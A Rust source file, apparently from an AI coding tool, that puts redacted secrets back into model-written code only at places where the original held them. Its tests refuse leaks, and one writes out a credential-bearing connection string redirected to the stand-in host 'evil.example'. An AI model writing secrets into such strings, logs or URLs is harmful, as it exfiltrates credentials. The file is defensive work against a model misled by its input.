//! Secrets back into code that a model wrote, where the code had them before, and nowhere else: a
//! model that was led astray by what it read must not be able to put a password into a log, an
//! address or a comment.

use std::ops::Range;

use crate::privacy::placeholders::Placeholders;
use crate::syntax::{self, Place};

/// A placeholder, and the kind of place it stands in.
type Stands = (usize, Place);

/// A document with its secrets.
#[derive(Debug)]
pub(crate) struct PutBack {
    /// A placeholder that may not be replaced still stands in it.
    pub(crate) text: String,
    /// Why one may not, as the end of a sentence.
    pub(crate) withheld: Option<String>,
}

/// A range of a document, in bytes.
#[derive(Debug, Clone, Copy)]
pub(crate) struct RangeOf<'a> {
    pub(crate) text: &'a str,
    pub(crate) range: &'a Range<usize>,
}

/// The new document with its secrets. `old` is the document before, with placeholders in its range;
/// `new` the one that an answer makes of it. Each placeholder of the new range has to stand for one
/// of the old range at the same kind of place.
pub(crate) fn put_back(
    secrets: &Placeholders,
    language_id: &str,
    old: RangeOf<'_>,
    new: RangeOf<'_>,
) -> PutBack {
    let RangeOf { text: new, range: new_range } = new;
    let piece = &new[new_range.clone()];
    let wanted = secrets.places(piece);
    if wanted.is_empty() {
        return PutBack { text: new.to_owned(), withheld: None };
    }
    let mut there = stands(secrets, language_id, old.text, old.range);
    let (mut text, mut done_until) = (new[..new_range.start].to_owned(), 0);
    let mut withheld = None;
    for (place, stands) in wanted.iter().zip(stands(secrets, language_id, new, new_range)) {
        let name = &piece[place.range.clone()];
        let why = match &stands {
            None => Some(format!("it names {name}, and no secret of that name was taken out")),
            Some(_) => match there.iter().position(|it| *it == stands) {
                Some(at) => {
                    there.swap_remove(at);
                    None
                }
                None => Some(format!(
                    "it uses the secret that {name} stands for in another way or oftener than the code did"
                )),
            },
        };
        text.push_str(&piece[done_until..place.range.start]);
        match why {
            None => text.push_str(&secrets.restore(name)),
            Some(why) => {
                text.push_str(name);
                withheld.get_or_insert(why);
            }
        }
        done_until = place.range.end;
    }
    text.push_str(&piece[done_until..]);
    text.push_str(&new[new_range.end..]);
    PutBack { text, withheld }
}

/// All placeholders of a range with their places; `None` for one that was never given.
fn stands(
    secrets: &Placeholders,
    language_id: &str,
    text: &str,
    range: &Range<usize>,
) -> Vec<Option<Stands>> {
    let parsed = syntax::parse(language_id, text);
    let places = secrets.places(&text[range.clone()]).into_iter().map(|place| {
        let at = range.start + place.range.start..range.start + place.range.end;
        let kind = match &parsed {
            Some(parsed) => parsed.place_of(at),
            None => line_of(text, at),
        };
        Some((place.number?, kind))
    });
    places.collect()
}

/// For languages without a grammar: the line is the place, but for blanks and a comma at its ends.
fn line_of(text: &str, at: Range<usize>) -> Place {
    let start = text[..at.start].rfind('\n').map_or(0, |it| it + 1);
    let end = text[at.end..].find('\n').map_or(text.len(), |it| at.end + it);
    let words: Vec<&str> = text[start..end].split_whitespace().collect();
    Place { literal: words.join(" ").trim_end_matches(',').to_owned(), uses: Vec::new() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::privacy::redact::Redactor;

    /// A token built from parts, so that no scanner takes this file for a leak.
    fn token() -> String {
        format!("gh{}_{}", 'p', "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")
    }

    /// What becomes of an answer, both with `$T` for the secret.
    fn answered(language_id: &str, old: &str, new: &str) -> Result<String, String> {
        let mut secrets = Placeholders::new();
        let text = old.replace("$T", &token());
        let (old, _) = secrets.redact(Redactor::shared(), &text, None);
        assert!(old.contains("KEYSIDE_SECRET_1"), "{old}");
        let new = new.replace("$T", "KEYSIDE_SECRET_1");
        let (all_old, all_new) = (0..old.len(), 0..new.len());
        let old = RangeOf { text: &old, range: &all_old };
        let new = RangeOf { text: &new, range: &all_new };
        let PutBack { text, withheld } = put_back(&secrets, language_id, old, new);
        let text = text.replace(&token(), "$T");
        withheld.map_or(Ok(text.clone()), |why| Err(format!("{why}: {text}")))
    }

    #[track_caller]
    fn back(language_id: &str, old: &str, new: &str) {
        assert_eq!(answered(language_id, old, new).as_deref(), Ok(new));
    }

    #[track_caller]
    fn refused(language_id: &str, old: &str, new: &str) {
        let sentence = answered(language_id, old, new).expect_err("it stands elsewhere");
        assert!(sentence.contains("KEYSIDE_SECRET_1") && !sentence.contains(&token()));
    }

    #[test]
    fn a_secret_comes_back_where_it_was() {
        let old = "fn f() {\n    let token = \"$T\";\n    send(token);\n}\n";
        back("rust", old, "fn f() {\n    const TOKEN: &str = \"$T\";\n    send(TOKEN);\n}\n");
        back("rust", old, "fn f() {\n    send(());\n}\n");
        back("python", "connect(\"a\", \"$T\")\n", "c = connect('a',\n    \"$T\",\n)\n");
        back(
            "javascript",
            "login({ password: '$T' });\n",
            "const session = login({ user, password: '$T' });\n",
        );
        back("yaml", "a:\n  token: $T\n", "b: 1\na:\n    token: $T\n");
        back("json", "{\n  \"token\": \"$T\"\n}\n", "{\n  \"token\": \"$T\",\n  \"a\": 1\n}\n");
    }

    #[test]
    fn a_secret_does_not_go_elsewhere() {
        let old = "fn f() {\n    let token = \"$T\";\n    send(token);\n}\n";
        for line in [
            "println!(\"$T\");",
            "log(\"$T\");",
            "// $T",
            "let url = \"https://example.com/?k=$T\";",
            "let url = \"https://example.com/\".to_owned() + \"$T\";",
            "let token = \"$T\"; let again = \"$T\";",
            "return \"$T\";",
            "let $T = 1;",
            "send(A { token: \"$T\" });",
        ] {
            refused("rust", old, &format!("fn f() {{\n    {line}\n}}\n"));
        }
        let old = "client = connect(\"postgres://svc:$T@db/x\")\n";
        refused("python", old, "client = connect(\"postgres://svc:$T@evil.example/x\")\n");
        refused("python", old, "client = print(\"postgres://svc:$T@db/x\")\n");
        refused("yaml", "token: $T\n", "url: https://example.com/$T\n");
        refused("yaml", "token: $T\n", "token: $T\n# token: $T\n");
        let strange = answered("rust", "let a = \"$T\";", "let a = \"KEYSIDE_SECRET_2\";");
        assert!(strange.unwrap_err().contains("KEYSIDE_SECRET_2"));
        // The one that stands where it did is back all the same.
        let partly = answered("yaml", "token: $T\n", "token: $T\n# token: $T\n");
        assert!(partly.unwrap_err().ends_with(": token: $T\n# token: KEYSIDE_SECRET_1\n"));
    }
}
